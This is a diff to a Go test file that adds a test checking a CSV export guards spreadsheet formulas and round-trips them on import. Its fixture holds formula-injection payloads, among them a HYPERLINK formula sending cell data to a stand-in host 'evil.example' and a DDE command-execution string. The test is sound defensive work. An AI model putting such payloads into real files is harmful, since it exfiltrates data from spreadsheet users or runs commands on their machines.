@@ -3,12 +3,14 @@ package orgs
 import (
 	"bytes"
 	"context"
+	"encoding/csv"
 	"fmt"
 	"path/filepath"
 	"strings"
 	"testing"
 	"time"
 
+	"madoguchi/app/csvsafe"
 	"madoguchi/app/i18n/i18ntest"
 	"madoguchi/app/problem"
 	"madoguchi/app/residency"
@@ -98,7 +100,7 @@ func TestExportImportRoundTrip(t *testing.T) {
 	if err := s.Export(ctx, &buf); err != nil {
 		t.Fatal(err)
 	}
-	if !strings.HasPrefix(buf.String(), bom+"id,name_ja,name_en,") {
+	if !strings.HasPrefix(buf.String(), csvsafe.BOM+"id,name_ja,name_en,") {
 		t.Fatalf("export starts %q", buf.String()[:40])
 	}
 	res, err := s.Import(ctx, bytes.NewReader(buf.Bytes()))
@@ -191,5 +193,70 @@ func TestMessagesExist(t *testing.T) {
 				}
 			}
 		}
+		// What the text rule refuses: its own message in the form, a row
+		// and column in a CSV import.
+		if _, ok := msgs["orgs.csv.error.invisible"]; !ok {
+			t.Errorf("%s: orgs.csv.error.invisible missing", lang)
+		}
+	}
+}
+
+// TestExportGuardsFormulas (attack #7): an entry whose fields a spreadsheet
+// would run as formulas is exported with every such cell guarded, and the
+// import gives back exactly what was stored.
+func TestExportGuardsFormulas(t *testing.T) {
+	hostile := Org{
+		ID:        "hostile",
+		NameJa:    `=HYPERLINK("http://evil.example/?d="&A1,"詳細")`,
+		NameEn:    "=1+1",
+		TakesJa:   "@SUM(A1:A9)",
+		TakesEn:   "-2+3\n=cmd|' /C calc'!A0",
+		Languages: "+ja",
+		Phone:     "+81 3-1234-5678",
+		Contact:   "'quoted already",
+		Hours:     "-",
+		Active:    true,
+	}
+	s := newService(t)
+	ctx := context.Background()
+	if _, err := s.Save(ctx, hostile, true); err != nil {
+		t.Fatal(err)
+	}
+	var buf bytes.Buffer
+	if err := s.Export(ctx, &buf); err != nil {
+		t.Fatal(err)
+	}
+	rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(buf.String(), csvsafe.BOM))).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	var row []string
+	for _, r := range rows {
+		if r[0] == hostile.ID {
+			row = r
+		}
+	}
+	want := record(hostile)
+	for i, c := range columns {
+		if want[i] == "" || !strings.ContainsAny(want[i][:1], "=+-@'") {
+			continue
+		}
+		if row[i] != "'"+want[i] {
+			t.Errorf("column %s exported as %q: want %q, shown as text by a spreadsheet", c.csv, row[i], "'"+want[i])
+		}
+	}
+	// Change the entry, then import the export: the stored values come back.
+	if _, err := s.Save(ctx, Org{ID: hostile.ID, NameJa: "別", NameEn: "other", Active: true}, false); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := s.Import(ctx, bytes.NewReader(buf.Bytes())); err != nil {
+		t.Fatal(err)
+	}
+	got, err := s.Get(ctx, hostile.ID)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if g, w := record(got), record(hostile); strings.Join(g, "|") != strings.Join(w, "|") {
+		t.Errorf("after export and import:\n got %q\nwant %q", g, w)
 	}
 }
